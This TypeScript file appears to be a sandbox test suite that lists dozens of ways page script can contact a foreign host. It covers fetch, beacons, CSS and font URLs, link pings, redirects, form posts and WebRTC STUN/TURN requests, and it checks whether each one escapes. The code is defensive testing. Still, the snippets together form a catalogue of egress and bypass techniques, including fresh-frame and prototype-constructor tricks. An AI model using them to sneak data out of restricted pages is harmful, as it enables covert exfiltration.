import { reachesOutside, waysOf, type Attack } from '../attack.ts';

const element = (name: string, attribute: string, more = ''): string =>
  `const element = document.createElement('${name}'); element.${attribute} = to; ${more} document.body.append(element);`;
const link = (rel: string, more = ''): string =>
  `const link = document.createElement('link'); link.rel = '${rel}'; ${more} link.href = to; document.head.append(link);`;
const style = (css: string): string =>
  `const style = document.createElement('style'); style.textContent = ${css}; document.head.append(style);`;
const quiet = (promise: string): string => `await ${promise}.catch(() => undefined);`;

/** A page that holds it is no sign yet: the viewer is, with buttons to save and to print. */
const PDF = `'%PDF-1.4'`;

export const networkWays: readonly Attack[] = [
  ...waysOf(
    'egress',
    'a request at a foreign host, which so learns of the terminal and the meeting',
    [
      ['fetch', 'calls fetch()', quiet("fetch(to, { mode: 'no-cors' })")],
      [
        'fetch-keepalive',
        'calls fetch() that outlives the page',
        quiet("fetch(to, { mode: 'no-cors', keepalive: true })"),
      ],
      ['xhr', 'uses XMLHttpRequest', `const request = new XMLHttpRequest(); request.open('GET', to); request.send();`],
      ['beacon', 'calls sendBeacon()', `navigator.sendBeacon(to, 'x');`],
      ['web-socket', 'opens a WebSocket', `new WebSocket(to.replace('http', 'ws'));`],
      ['event-source', 'opens an event stream', `new EventSource(to);`],
      ['image', 'shows a picture', `new Image().src = to;`],
      ['image-set', 'shows a picture for finer screens', `new Image().srcset = to + ' 1x';`],
      ['input-image', 'has a button with a picture', element('input', 'src', "element.type = 'image';")],
      ['script', 'loads a script', element('script', 'src')],
      ['module', 'imports a module', quiet(`import(to + '.js')`)],
      ['style-sheet', 'loads a style sheet', link('stylesheet')],
      ['style-import', 'imports a style sheet', style("`@import '${to}';`")],
      ['style-picture', 'draws a background', style("`body { background: url('${to}') }`")],
      ['font', 'loads a font', style("`@font-face { font-family: f; src: url('${to}') } body { font-family: f }`")],
      ['film', 'plays a film', element('video', 'src', "element.preload = 'auto';")],
      ['sound', 'plays a sound', element('audio', 'src', "element.preload = 'auto';")],
      ['poster', "shows a film's first picture", element('video', 'poster')],
      [
        'subtitles',
        'loads subtitles',
        `const film = document.createElement('video'); const track = document.createElement('track'); track.src = to; track.default = true; track.kind = 'subtitles'; film.crossOrigin = 'anonymous'; film.append(track); document.body.append(film); track.track.mode = 'showing';`,
      ],
      ['frame', 'shows a frame', element('iframe', 'src')],
      ['object', 'shows an object', element('object', 'data')],
      ['embed', 'embeds something', element('embed', 'src')],
      ['prefetch', 'fetches in advance', link('prefetch')],
      ['preload', 'loads in advance', link('preload', "link.as = 'image';")],
      ['module-preload', 'loads a module in advance', link('modulepreload')],
      ['icon-mask', 'masks an element with a drawing', style("`#words { mask-image: url('${to}') }`")],
      [
        'cursor',
        'loads a pointer',
        style("`body { cursor: url('${to}'), auto }`") + `document.body.dispatchEvent(new MouseEvent('mousemove'));`,
      ],
      [
        'list-mark',
        'loads a mark of a list',
        style("`ul { list-style-image: url('${to}') }`") +
          `const list = document.createElement('ul'); list.innerHTML = '<li>x'; document.body.append(list);`,
      ],
      [
        'svg-image',
        'draws a picture in a drawing',
        `const space = 'http://www.w3.org/2000/svg'; const svg = document.createElementNS(space, 'svg'); const image = document.createElementNS(space, 'image'); image.setAttribute('href', to); svg.append(image); document.body.append(svg);`,
      ],
      ['worker-fetch', 'lets a worker fetch', 'new Worker(`${inside}/fetching-worker.js?mark=${mark}`);'],
      ['worker-import', 'lets a worker import', 'new Worker(`${inside}/importing-worker.js?mark=${mark}`);'],
      ['shared-worker', 'lets a shared worker fetch', 'new SharedWorker(`${inside}/fetching-worker.js?mark=${mark}`);'],
      [
        'ping',
        "counts a touch with a link's ping",
        `const link = document.createElement('a'); link.href = '#x'; link.ping = to; document.body.append(link); link.click();`,
      ],
      [
        'redirected-fetch',
        'is redirected while it fetches',
        quiet("fetch(`${inside}/to-outside?mark=${mark}`, { mode: 'no-cors' })"),
      ],
      [
        'redirected-image',
        'is redirected while it shows a picture',
        'new Image().src = `${inside}/to-outside-307?mark=${mark}`;',
      ],
      [
        'redirected-frame',
        'is redirected inside a frame',
        "const frame = document.createElement('iframe'); frame.src = `${inside}/to-outside?mark=${mark}`; document.body.append(frame);",
      ],
      [
        'policy-report',
        'lets a broken content policy be reported',
        "const frame = document.createElement('iframe'); frame.src = `${inside}/csp?mark=${mark}`; document.body.append(frame);",
      ],
      [
        'frame-form',
        'sends a form inside a frame',
        `const frame = document.createElement('iframe'); frame.name = 'f'; document.body.append(frame); const form = document.createElement('form'); form.action = to; form.target = 'f'; form.method = 'post'; document.body.append(form); form.submit();`,
      ],
      ['audio-worklet', 'loads code for sound', quiet(`new AudioContext().audioWorklet.addModule(to + '.js')`)],
      [
        'paint',
        'draws a picture into a canvas pattern',
        `const picture = new Image(); picture.crossOrigin = 'anonymous'; picture.src = to;`,
      ],
    ],
    reachesOutside,
  ),
  ...waysOf(
    'webrtc',
    'packets at a foreign media server, past everything that sees requests',
    [
      [
        'stun',
        'asks a foreign STUN server',
        "const line = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.2:${udpPort}` }] }); line.createDataChannel('x'); await line.setLocalDescription();",
      ],
      [
        'stun-list',
        'hides a foreign STUN server in a list',
        "const line = new RTCPeerConnection({ iceServers: [{ urls: [`stun:127.0.0.1:9`, `stun:127.0.0.2:${udpPort}`] }] }); line.createDataChannel('x'); await line.setLocalDescription();",
      ],
      [
        'turn',
        'asks a foreign TURN server',
        "const line = new RTCPeerConnection({ iceServers: [{ urls: `turn:127.0.0.2:${udpPort}?transport=udp`, username: 'u', credential: 'c' }] }); line.createDataChannel('x'); await line.setLocalDescription();",
      ],
      [
        'set-configuration',
        'names a foreign STUN server afterwards',
        "const line = new RTCPeerConnection(); line.setConfiguration({ iceServers: [{ urls: `stun:127.0.0.2:${udpPort}` }] }); line.createDataChannel('x'); await line.setLocalDescription();",
      ],
      [
        'old-name',
        "asks a foreign STUN server by WebKit's old name",
        "const line = new webkitRTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.2:${udpPort}` }] }); line.createDataChannel('x'); await line.setLocalDescription();",
      ],
      [
        'fresh-frame',
        'takes an untouched constructor from a new frame',
        "const frame = document.createElement('iframe'); document.body.append(frame); const line = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.2:${udpPort}` }] }); line.createDataChannel('x'); await line.setLocalDescription();",
      ],
      [
        'constructor',
        'takes the constructor from the prototype',
        "const line = new (RTCPeerConnection.prototype.constructor)({ iceServers: [{ urls: `stun:127.0.0.2:${udpPort}` }] }); line.createDataChannel('x'); await line.setLocalDescription();",
      ],
    ],
    ({ outside }) => outside.heardUdp() > 0,
  ),
  ...waysOf('service-workers', 'a worker that answers in place of the meeting, for every later visit', [
    [
      'register',
      'registers a service worker',
      "return navigator.serviceWorker.register('/worker.js').then(() => true, () => false);",
    ],
    [
      'module',
      'registers a service worker as a module',
      "return navigator.serviceWorker.register('/worker.js?module', { type: 'module' }).then(() => true, () => false);",
    ],
    [
      'scope',
      'registers a service worker for a part of its host',
      "return navigator.serviceWorker.register('/worker.js?scope', { scope: '/scope/' }).then(() => true, () => false);",
    ],
  ]),
  ...waysOf(
    'egress',
    'a PDF viewer with buttons to save and to print',
    [
      [
        'pdf-frame',
        'shows a PDF in a frame',
        `const frame = document.createElement('iframe'); frame.src = '/pdf'; document.body.append(frame);`,
      ],
      [
        'pdf-object',
        'shows a PDF as an object',
        `const shown = document.createElement('object'); shown.type = 'application/pdf'; shown.data = '/pdf'; document.body.append(shown);`,
      ],
      [
        'pdf-blob',
        'shows a PDF that it has written itself',
        `const frame = document.createElement('iframe'); frame.src = URL.createObjectURL(new Blob([${PDF}], { type: 'application/pdf' })); document.body.append(frame);`,
      ],
      [
        'pdf-data',
        'shows a PDF that is written in its address',
        `const frame = document.createElement('iframe'); frame.src = 'data:application/pdf,' + ${PDF}; document.body.append(frame);`,
      ],
      ['pdf-page', 'goes to a PDF', `location.href = '/pdf';`],
    ],
    async ({ seen }) => (await seen()).viewers > 0,
  ),
];
